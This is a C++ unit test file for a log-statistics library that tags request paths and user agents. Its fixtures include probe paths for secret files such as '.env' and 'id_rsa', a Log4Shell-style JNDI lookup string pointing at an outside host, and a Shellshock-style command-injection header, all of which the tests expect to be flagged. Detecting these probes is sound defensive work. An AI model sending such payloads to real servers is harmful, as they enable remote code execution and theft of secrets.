#include "src/catalog/text_tags.h"

#include <gtest/gtest.h>

#include <string>

#include "src/base/hash.h"

namespace logstat {
namespace {

TEST(TextTagsTest, APathsBitsAreBesideItsHash) {
  struct Example {
    std::string_view path;
    uint64_t bits;
  };
  for (const Example& example :
       {Example{"/", 0}, Example{"/a/b.css", kStaticPath}, Example{"/.env", kSensitivePath}, Example{"/a'b", kOddPath},
        Example{"/wp-login.php", kLoginPath}, Example{"/favicon.ico", kStaticPath | kUnbiddenPath},
        Example{"/id%5frsa", kSensitivePath}, Example{"/wp%2dlogin.php", kLoginPath},
        Example{"/%252eenv", kSensitivePath | kOddPath}, Example{"/caf%C3%A9", 0}}) {
    const uint64_t tag = PathTag(example.path);
    EXPECT_EQ(tag & kPathBits, example.bits) << example.path;
    EXPECT_EQ(HashOfPathTag(tag), PathHash(example.path)) << example.path;
    EXPECT_NE(HashOfPathTag(tag), PathHash("/other")) << example.path;
  }
}

TEST(TextTagsTest, AnAgentsKindIsBesideItsHash) {
  const uint64_t scanner = AgentTag("sqlmap/1.8.2#stable (https://sqlmap.org)");
  EXPECT_EQ(KindOfAgentTag(scanner), AgentKind::kScanner);
  EXPECT_EQ(scanner & kAttackingAgent, 0U);
  const uint64_t attack = AgentTag("${jndi:ldap://192.0.2.9/a}");
  EXPECT_NE(attack & kAttackingAgent, 0U);
  EXPECT_EQ(HashOfAgentTag(attack), static_cast<uint32_t>(SketchHash("${jndi:ldap://192.0.2.9/a}")));
  EXPECT_NE(AgentTag("() { :; }; /bin/true") & kAttackingAgent, 0U);
}

// Agents that were asked about lately are remembered, by a slot that several share.
TEST(TextTagsTest, AnAgentsTagIsTheSameWhateverWasAskedBefore) {
  const std::string crawler = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";
  const std::string endless = "sqlmap/1.8 " + std::string(100'000, 'x');
  const uint64_t tag = AgentTag(crawler);
  const uint64_t long_tag = AgentTag(endless);
  for (int i = 0; i < 2000; ++i) {
    const std::string other = "agent " + std::to_string(i);
    ASSERT_EQ(HashOfAgentTag(AgentTag(other)), static_cast<uint32_t>(SketchHash(other)));
    if (i % 100 != 0) continue;
    ASSERT_EQ(AgentTag(crawler), tag);
    ASSERT_EQ(AgentTag(endless), long_tag);
  }
  EXPECT_EQ(KindOfAgentTag(tag), AgentKind::kCrawler);
  EXPECT_EQ(KindOfAgentTag(long_tag), AgentKind::kScanner);
}

}  // namespace
}  // namespace logstat
